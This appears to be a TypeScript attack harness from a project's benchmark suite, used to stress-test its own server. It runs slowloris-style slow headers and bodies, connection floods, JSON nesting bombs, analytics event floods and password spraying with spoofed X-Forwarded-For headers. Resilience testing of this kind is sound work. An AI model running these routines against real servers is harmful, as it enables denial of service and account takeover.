// The process that attacks a server for `bench/attack.ts`: `node attacks.ts <name> <url> <token> <site key>`, until it is killed.
import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { reportCalls } from '#contract/reports.ts'
import { blueprintOf, everySection } from '#server/features/reports/testing/blueprint.ts'

const [, , name = '', url = '', token = '', siteKey = ''] = process.argv
const { hostname, port } = new URL(url)

/** Keeps so many sockets open, each used as told and opened again when it is closed. */
function keepOpen(many: number, use: (socket: Socket) => void) {
  const open = () => {
    const socket = connect(Number(port), hostname, () => use(socket))
    socket.on('error', () => {}).on('close', () => setTimeout(open, 100))
    socket.resume()
  }
  for (let n = 0; n < many; n += 1) open()
}

const dripEvery = (ms: number, what: string) => (socket: Socket) => {
  const timer = setInterval(() => socket.write(what), ms)
  socket.on('close', () => clearInterval(timer))
}

const halfOpen =
  'POST /api/setup/status HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{'

/** Asks again as soon as it is answered, so many at once. */
function ask(many: number, request: () => [path: string, body: string, headers?: Record<string, string>]) {
  const one = async () => {
    for (;;) {
      const [path, body, headers] = request()
      await fetch(url + path, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body,
      }).then(
        (answer) => answer.arrayBuffer(),
        () => delay(100),
      )
    }
  }
  for (let n = 0; n < many; n += 1) one()
}

const bearer = { authorization: `Bearer ${token}` }
const deep = (levels: number) => '['.repeat(levels) + ']'.repeat(levels)
const bombs = [
  deep(400_000),
  `{"page":1,"filters":${deep(1000)}}`,
  `{"filters":{"search":"${'x'.repeat(900_000)}"}}`,
  `{"ids":[${'1,'.repeat(400_000)}1]}`,
  `{"page":${'9'.repeat(500_000)}}`,
]
const preview = JSON.stringify({
  blueprint: blueprintOf({
    is_regular: false,
    from: '2024-01-01',
    to: '2026-11-20',
    sections: Array.from({ length: 2 }, (_, n) =>
      everySection([])
        .filter(({ kind }) => kind !== 'comparison')
        .map((section) => ({ ...section, id: `${section.id}${n}` })),
    ).flat(),
  }),
})
let count = 0
function next() {
  count += 1
  return count
}

/** Each goes on by itself, forever. */
const attacks: Record<string, () => void> = {
  'slow heads': () =>
    keepOpen(450, (socket) => {
      socket.write('GET /api/setup/status HTTP/1.1\r\nHost: x\r\n')
      dripEvery(1000, 'X-A: 1\r\n')(socket)
    }),
  'slow bodies': () =>
    keepOpen(450, (socket) => {
      socket.write(halfOpen)
      dripEvery(1000, ' ')(socket)
    }),
  'half-open requests': () => keepOpen(450, (socket) => socket.write(halfOpen)),
  'many connections': () => keepOpen(2000, () => {}),
  'dear calls': () => ask(50, () => [reportCalls.preview.path, preview, bearer]),
  'a flood of events': () =>
    ask(100, () => [
      '/collect',
      JSON.stringify({ t: 'view', k: siteKey, u: `https://shop.example/${next()}` }),
      { 'x-forwarded-for': `203.0.113.${count % 250}`, 'user-agent': 'Mozilla/5.0 Chrome/140.0' },
    ]),
  'a spray of passwords': () =>
    ask(50, () => [
      '/api/auth/callback/credentials',
      JSON.stringify({
        email: `${next()}@rapport.test`,
        password: 'password',
        csrfToken: 'x',
        json: true,
      }),
      { 'x-forwarded-for': `203.0.113.${count % 250}` },
    ]),
  'made-up tokens': () =>
    ask(100, () => [
      '/api/content/list',
      '{}',
      { authorization: `Bearer ${randomBytes(32).toString('base64url')}` },
    ]),
  bombs: () => ask(8, () => ['/api/content/list', bombs[next() % bombs.length] ?? '', bearer]),
}

if (name) attacks[name]?.()
else console.log(JSON.stringify(Object.keys(attacks)))
